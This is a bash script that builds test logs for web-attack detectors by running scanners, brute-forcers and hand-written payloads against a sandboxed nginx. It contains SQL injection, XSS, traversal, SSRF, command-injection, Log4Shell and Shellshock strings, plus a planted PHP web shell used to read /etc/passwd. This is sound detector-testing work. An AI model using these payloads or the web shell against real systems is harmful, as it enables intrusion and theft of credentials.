#!/usr/bin/env bash
# Access logs of a real nginx attacked by real tools, for the web-log
# detectors (tests/weblogs/nginx/). Run as root on Debian:
#
#   apt-get install -y nginx-light sqlmap dirb gobuster nmap hydra curl
#   sudo bash tests/weblogs/_gen/generate.sh
#
# A network namespace `cgw-srv` holds nginx on 10.77.0.1:80 behind a
# bridge; each client runs in its own namespace with its own address, so
# that the log names each tool by its source:
#
# | client      | tool                                   | expected detectors |
# |-------------|----------------------------------------|--------------------|
# | 10.77.0.11  | sqlmap (its own user agent)            | web-scan, web-attack |
# | 10.77.0.12  | dirb, common wordlist                  | web-bruteforce, web-scan |
# | 10.77.0.13  | curl, attack payloads, browser agent   | web-attack |
# | 10.77.0.14  | hydra http-post-form on /dang-nhap      | web-bruteforce, web-scan |
# | 10.77.0.15  | nmap http-enum NSE script (its probes  | web-scan, web-bruteforce, |
# |             | include traversal exploits)            | web-attack |
# | 10.77.0.16  | gobuster dir mode                      | web-bruteforce, web-scan |
# | 10.77.0.17  | curl, web-shell use under /uploads     | webshell-access, web-attack |
# |             | (one reads /etc/passwd)                |      |
# | 10.77.0.20  | curl as a browser: pages, a few 404s,  | none |
# |             | a Vietnamese search, one failed login  |      |
#
# nginx writes the same requests twice: `access.log` (combined) and
# `access.json.log` (escape=json). expected.tsv lists, per client, the
# detectors that must fire (and `-` for none). The logs are committed; the
# test suite reads them, it does not run this script.
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
out=$(cd "$here/.." && pwd)/nginx
work=$(mktemp -d /tmp/cgw.XXXXXX); chmod 755 "$work"
mkdir -p "$out"
clients=(11 12 13 14 15 16 17 20)

cleanup() {
    [ -f "$work/nginx.pid" ] && kill "$(cat "$work/nginx.pid")" 2>/dev/null || true
    for c in "${clients[@]}"; do ip netns del "cgw-c$c" 2>/dev/null || true; done
    ip netns del cgw-srv 2>/dev/null || true
    rm -rf "$work"
}
trap cleanup EXIT
cleanup 2>/dev/null || true
work=$(mktemp -d /tmp/cgw.XXXXXX); chmod 755 "$work"

# --- the site: static pages, a search page, a login form that always fails
root="$work/www"
mkdir -p "$root/tin-tuc" "$root/van-ban" "$root/static" "$root/uploads" "$root/tim-kiem"
for p in index.html tin-tuc/index.html van-ban/index.html tim-kiem/index.html; do
    printf '<!doctype html><html lang="vi"><head><meta charset="utf-8"><title>Cổng thông tin điện tử</title>\n<link rel="stylesheet" href="/static/site.css"></head><body><h1>Cổng thông tin điện tử tỉnh</h1><a href="/tin-tuc/">Tin tức</a> <a href="/van-ban/">Văn bản</a><form action="/tim-kiem/"><input name="q"></form><script src="/static/app.js"></script></body></html>\n' > "$root/$p"
done
echo 'body{font-family:sans-serif}' > "$root/static/site.css"
echo 'console.log("ok")' > "$root/static/app.js"
# a script left in the upload directory (nginx serves it as a file: the
# requests are what an attacker using a planted shell sends)
echo '<?php system($_GET["cmd"]); ?>' > "$root/uploads/anh-dai-dien.php"

cat > "$work/nginx.conf" <<EOF
worker_processes 1;
pid $work/nginx.pid;
error_log $work/error.log;
events { worker_connections 1024; }
http {
    access_log off;
    log_format cgjson escape=json '{"time_iso8601":"\$time_iso8601","remote_addr":"\$remote_addr","request":"\$request","status":"\$status","body_bytes_sent":"\$body_bytes_sent","http_referer":"\$http_referer","http_user_agent":"\$http_user_agent","host":"\$host"}';
    client_body_temp_path $work/body;
    proxy_temp_path $work/proxy;
    fastcgi_temp_path $work/fastcgi;
    uwsgi_temp_path $work/uwsgi;
    scgi_temp_path $work/scgi;
    types { text/html html; text/css css; application/javascript js; }
    server {
        listen 10.77.0.1:80;
        server_name cong.example.gov.vn;
        root $root;
        access_log $work/access.log combined;
        access_log $work/access.json.log cgjson;
        location = /dang-nhap {
            if (\$request_method = POST) { return 200 "<html><body>Sai tên đăng nhập hoặc mật khẩu</body></html>\n"; }
            return 200 "<html><body><form method=post><input name=user><input name=pass type=password></form></body></html>\n";
        }
        location /uploads/ { if (\$request_method = POST) { return 200 "ok\n"; } }
    }
}
EOF

# --- namespaces: a bridge in the server's, one veth per client
ip netns add cgw-srv
ip -n cgw-srv link set lo up
ip -n cgw-srv link add br0 type bridge
ip -n cgw-srv addr add 10.77.0.1/24 dev br0
ip -n cgw-srv link set br0 up
for c in "${clients[@]}"; do
    ns="cgw-c$c"
    ip netns add "$ns"
    ip -n "$ns" link set lo up
    ip link add "cgw-v$c" type veth peer name eth0 netns "$ns"
    ip link set "cgw-v$c" netns cgw-srv
    ip -n cgw-srv link set "cgw-v$c" master br0 up
    ip -n "$ns" addr add "10.77.0.$c/24" dev eth0
    ip -n "$ns" link set eth0 up
done
ip netns exec cgw-srv nginx -c "$work/nginx.conf"
sleep 1
at() { local c=$1; shift; ip netns exec "cgw-c$c" "$@"; }
url=http://10.77.0.1
browser='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'

# --- benign browsing first, and again at the end
benign() {
    local pages=(/ /tin-tuc/ /static/site.css /static/app.js /favicon.ico /van-ban/ /tin-tuc/?id=12 /van-ban/?trang=2
        "/tim-kiem/?q=ngh%E1%BB%8B+%C4%91%E1%BB%8Bnh+13%2F2023%2FN%C4%90-CP+b%E1%BA%A3o+v%E1%BB%87+d%E1%BB%AF+li%E1%BB%87u"
        "/tim-kiem/?q=th%E1%BB%A7+t%E1%BB%A5c+c%E1%BA%A5p+gi%E1%BA%A5y+ph%C3%A9p+x%C3%A2y+d%E1%BB%B1ng+%28s%E1%BB%ADa+%C4%91%E1%BB%95i%29"
        "/tim-kiem/?q=l%E1%BB%8Bch+ti%E1%BA%BFp+c%C3%B4ng+d%C3%A2n+%27th%C3%A1ng+12%27"
        /apple-touch-icon.png /robots.txt /tin-tuc/bai-cu.html)
    for p in "${pages[@]}"; do
        at 20 curl -s -o /dev/null -A "$browser" -e "$url/" "$url$p"
        sleep 0.3
    done
    at 20 curl -s -o /dev/null -A "$browser" "$url/dang-nhap"
    at 20 curl -s -o /dev/null -A "$browser" -d 'user=nguyenvana&pass=Matkhau%402026' "$url/dang-nhap"
}
benign

# --- sqlmap: a parameter that is not injectable, default level and risk
at 11 sqlmap -u "$url/tin-tuc/?id=12" --batch --flush-session --output-dir="$work/sqlmap" >/dev/null 2>&1 || true

# --- dirb and gobuster: directory brute force
at 12 dirb "$url/" /usr/share/dirb/wordlists/common.txt -S -r -o "$work/dirb.txt" >/dev/null 2>&1 || true
at 16 gobuster dir -q -u "$url/" -w /usr/share/dirb/wordlists/small.txt -t 4 >/dev/null 2>&1 || true

# --- hand-made attack payloads with a browser agent
payloads=(
    "/tin-tuc/?id=12%27%20UNION%20ALL%20SELECT%20NULL%2Cusername%2Cpassword%20FROM%20users--%20-"
    "/tin-tuc/?id=12%20AND%201%3D1"
    "/tin-tuc/?id=12%27%20AND%20SLEEP(5)--%20-"
    "/tim-kiem/?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"
    "/tim-kiem/?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd"
    "/index.php?page=php://filter/convert.base64-encode/resource=index.php"
    "/tai-ve?file=....//....//....//etc/passwd"
    "/proxy?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
)
for p in "${payloads[@]}"; do
    at 13 curl -s -o /dev/null --path-as-is -A "$browser" "$url$p"
    sleep 0.2
done
at 13 curl -s -o /dev/null -A '${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/aWQ=}' "$url/"
at 13 curl -s -o /dev/null -A '() { :; }; /bin/bash -c "id"' "$url/cgi-bin/status"

# --- hydra: login brute force on the form
printf '%s\n' 123456 password admin 12345678 qwerty abc123 Matkhau123 admin@123 123456789 111111 \
    iloveyou 1q2w3e4r admin123 P@ssw0rd Abc@123 vietnam hanoi2026 > "$work/pass.txt"
at 14 hydra -l admin -P "$work/pass.txt" -t 2 -f 10.77.0.1 http-post-form \
    "/dang-nhap:user=^USER^&pass=^PASS^:F=Sai" >/dev/null 2>&1 || true

# --- nmap's web enumeration script
at 15 nmap -Pn -p80 --script http-enum 10.77.0.1 >/dev/null 2>&1 || true

# --- a planted web shell used
at 17 curl -s -o /dev/null -A "$browser" "$url/uploads/anh-dai-dien.php?cmd=id"
at 17 curl -s -o /dev/null -A "$browser" "$url/uploads/anh-dai-dien.php?cmd=cat+/etc/passwd"
at 17 curl -s -o /dev/null -A "$browser" -d 'cmd=uname -a' "$url/uploads/anh-dai-dien.php"

benign
sleep 1
kill "$(cat "$work/nginx.pid")"
sleep 1
gzip -9 -c "$work/access.log" > "$out/access.log.gz"
gzip -9 -c "$work/access.json.log" > "$out/access.json.log.gz"
cat > "$out/expected.tsv" <<EOF
# client	detectors that must fire (comma-separated; - for none)
10.77.0.11	web-scan,web-attack
10.77.0.12	web-bruteforce,web-scan
10.77.0.13	web-attack
10.77.0.14	web-bruteforce,web-scan
10.77.0.15	web-scan,web-bruteforce,web-attack
10.77.0.16	web-bruteforce,web-scan
10.77.0.17	webshell-access,web-attack
10.77.0.20	-
EOF
zcat "$out/access.log.gz" | wc -l
